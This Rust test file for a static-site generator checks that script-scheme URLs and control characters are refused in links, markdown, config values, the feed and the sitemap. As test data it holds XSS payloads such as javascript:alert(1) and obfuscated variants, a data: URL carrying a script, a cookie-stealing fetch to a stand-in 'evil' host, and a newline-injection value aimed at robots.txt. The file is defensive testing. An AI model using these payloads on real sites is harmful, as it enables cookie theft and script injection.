//! No URL that reaches a page, the feed, the sitemap or JSON-LD can run script; control
//! characters never reach a page or break the feed.

use crate::Site;

/// An entry whose front matter has `extra` lines added and whose body is `body`.
fn entry(extra: &str, body: &str) -> String {
    format!(
        "---\ntitle: \"demo: url gate failed\"\nsummary: s\nlikely_cause: c\n\
         patterns: [\"demo: url gate failed\"]\nfix: [x]\nunsafe: [{{do_not: a, why: b}}]\n\
         verify: [y]\n{extra}---\n{body}"
    )
}

/// `check` fails, naming `file:line` and the refusal; `build` writes nothing.
#[track_caller]
fn refused_at(s: &Site, file_line: &str, why: &str) {
    let r = s.run(&["check"]);
    let out = format!("{}{}", r.stdout(), r.stderr());
    assert_ne!(r.code(), 0, "check passed:\n{out}");
    assert!(out.contains(file_line), "no {file_line} in:\n{out}");
    assert!(out.contains(why), "no `{why}` in:\n{out}");
    assert_ne!(s.run(&["build", "-q"]).code(), 0);
    assert!(!s.path("public").exists(), "a site was written");
}

const SCRIPT_URLS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "   javascript:alert(1)",
    "java\\tscript:alert(1)",
    "\\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];

#[test]
fn links_url_with_a_script_scheme_is_an_error_at_its_line() {
    for url in SCRIPT_URLS {
        let s = Site::new("ok-basic");
        s.write(
            "content/demo/gate.md",
            &entry(
                &format!("links:\n  - title: docs\n    url: \"{url}\"\n"),
                "",
            ),
        );
        // At the URL's line; at the `links:` line when YAML escapes hide it from view.
        let at = if url.contains('\\') { ":9" } else { ":11:" };
        refused_at(&s, &format!("content/demo/gate.md{at}"), "URL");
    }
}

#[test]
fn tool_homepage_with_a_script_scheme_is_an_error_at_its_line() {
    let s = Site::new("ok-basic");
    s.write(
        "content/demo/_tool.yaml",
        "name: Demo\nhomepage: \" JavaScript:alert(document.domain)\"\n",
    );
    refused_at(&s, "content/demo/_tool.yaml:2", "`javascript:`");
}

#[test]
fn edit_url_with_a_script_scheme_is_an_error_at_its_line() {
    let s = Site::new("ok-basic");
    s.write(
        "errkb.yaml",
        "title: Demo KB\nedit_url: \"javascript:fetch('//evil/'+document.cookie)//{path}\"\n",
    );
    refused_at(&s, "errkb.yaml:2", "`javascript:`");
}

#[test]
fn markdown_links_and_images_anywhere_are_gated() {
    let cases = [
        (
            "",
            "Text [x](javascript:alert(1)).\n",
            "content/demo/gate.md:10:10",
        ),
        (
            "",
            "# Heading ![x](javascript:alert(1))\n",
            "content/demo/gate.md:10:",
        ),
        (
            "",
            "\n\n[ref]: JAVASCRIPT:alert(1)\n\nSee [ref].\n",
            "content/demo/gate.md:14",
        ),
        (
            "",
            "Auto <javascript:alert(1)> link.\n",
            "content/demo/gate.md:10:",
        ),
        (
            "causes: [\"see [x](javascript:alert(1))\"]\n",
            "",
            "content/demo/gate.md:9",
        ),
        (
            "confirm: [{text: \"![i](data:image/svg+xml;base64,PHN2Zz4=)\"}]\n",
            "",
            "content/demo/gate.md:9",
        ),
    ];
    for (front, body, at) in cases {
        let s = Site::new("ok-basic");
        s.write("content/demo/gate.md", &entry(front, body));
        refused_at(&s, at, "not allowed");
    }
}

#[test]
fn base_url_with_a_control_character_is_refused() {
    let s = Site::new("ok-basic");
    s.write(
        "errkb.yaml",
        "title: Demo KB\nbase_url: \"https://kb.example.org/\\nDisallow: /\\nSitemap: https://evil.example/\"\n",
    );
    refused_at(&s, "errkb.yaml:2", "control character");
    let r = s.run(&[
        "build",
        "-q",
        "--base-url",
        "https://kb.example.org/\nSitemap: https://evil.example/",
    ]);
    assert_ne!(r.code(), 0);
    assert!(r.stderr().contains("control character"), "{}", r.stderr());
}

#[test]
fn control_characters_in_entry_text_are_errors_at_their_line() {
    let s = Site::new("ok-basic");
    s.write(
        "content/demo/gate.md",
        &entry(
            "causes: [\"bell \\a here\"]\n",
            "Body\n\nwith \u{1b}[2J a screen clear\n",
        ),
    );
    let r = s.run(&["check"]);
    let out = r.stdout();
    assert_ne!(r.code(), 0);
    assert!(out.contains("content/demo/gate.md:9"), "{out}");
    assert!(out.contains("content/demo/gate.md:13:6"), "{out}");
    assert!(out.contains("U+0007") && out.contains("U+001B"), "{out}");
}

/// Text errkb does not check as an entry (site title and description, tool names) still
/// cannot break the feed or the sitemap: both parse as XML whatever the text holds.
#[test]
fn feed_and_sitemap_stay_valid_xml() {
    let s = Site::new("ok-basic");
    s.write(
        "errkb.yaml",
        "title: \"KB \\x01\\x0b\\x1f <&> ]]> \\u0085\"\ndescription: \"d \\x08 & <x>\"\nbase_url: https://kb.example.org/\n",
    );
    s.write("content/demo/_tool.yaml", "name: \"Demo \\x02 tool\"\n");
    s.run(&["build", "-q"]).ok();
    for f in ["public/atom.xml", "public/sitemap.xml"] {
        let text = s.read(f);
        if let Err(e) = roxmltree::Document::parse(&text) {
            panic!("{f} is not XML: {e}\n{text}");
        }
    }
    let feed = s.read("public/atom.xml");
    assert!(feed.contains("KB  &lt;&amp;&gt; ]]&gt;"), "{feed}");
    let robots = s.read("public/robots.txt");
    assert_eq!(robots.lines().count(), 3, "{robots}");
    assert!(
        robots.contains("Sitemap: https://kb.example.org/sitemap.xml"),
        "{robots}"
    );
}

#[test]
fn allowed_links_still_work() {
    let s = Site::new("ok-basic");
    s.write(
        "content/demo/gate.md",
        &entry(
            "links:\n  - {title: a, url: \"https://example.org/x?y=1#z\"}\n  - {title: b, url: \"mailto:ops@example.org\"}\n  - {title: c, url: \"/demo/widget-locked/\"}\n",
            "See [d](https://example.org) and ![img](/logo.png \"t\").\n",
        ),
    );
    s.run(&["check"]).ok();
    s.run(&["build", "-q"]).ok();
    let html = s.read("public/demo/gate/index.html");
    for href in [
        "https://example.org/x?y=1#z",
        "mailto:ops@example.org",
        "https://example.org",
    ] {
        // Quoted where the value holds `=`, as HTML needs.
        assert!(
            html.contains(&format!("href={href}>")) || html.contains(&format!("href=\"{href}\"")),
            "{href}"
        );
    }
}
